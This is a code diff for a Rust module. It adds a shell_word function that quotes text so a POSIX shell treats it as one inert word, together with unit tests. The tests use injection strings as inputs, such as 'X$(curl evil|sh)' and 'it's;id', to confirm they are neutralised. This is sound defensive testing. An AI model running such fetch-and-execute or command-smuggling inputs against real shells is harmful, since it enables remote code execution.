@@ -41,6 +41,16 @@ pub fn csv_cell(text: &str) -> String {
     if begins { format!("'{shown}") } else { shown }
 }
 
+/// A text as a POSIX shell takes it for one word, for commands that somebody copies: nothing in it is run or split.
+pub fn shell_word(text: &str) -> String {
+    let shown = escape(text);
+    let plain = |b: u8| b.is_ascii_alphanumeric() || b"_.,:/@%+=-".contains(&b);
+    if !shown.is_empty() && shown.bytes().all(plain) {
+        return shown;
+    }
+    format!("'{}'", shown.replace('\'', r"'\''"))
+}
+
 /// A text with no more than so many characters, which says how many it had.
 pub(crate) fn cut(text: &str, most: usize) -> String {
     match text.char_indices().nth(most) {
@@ -71,6 +81,19 @@ pub(crate) fn printable(message: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_word_of_a_command_is_one_word_and_runs_nothing_whatever_stands_in_it() {
+        for plain in ["PF3XK9", "lap-ada", "label:laptop", "base@3", "4c4c4544-0042-3510-8052-b4c04f4e3233"] {
+            assert_eq!(shell_word(plain), plain);
+        }
+        assert_eq!(shell_word("X$(curl evil|sh)"), "'X$(curl evil|sh)'");
+        assert_eq!(shell_word("VMware-56 4d"), "'VMware-56 4d'");
+        assert_eq!(shell_word("it's;id"), r"'it'\''s;id'");
+        assert_eq!(shell_word("a\nid"), r"'a\nid'", "a line break is written out");
+        assert_eq!(shell_word("#1"), "'#1'");
+        assert_eq!(shell_word(""), "''");
+    }
 
     #[test]
     fn a_cell_gives_a_spreadsheet_no_orders_and_reads_as_what_it_is() {
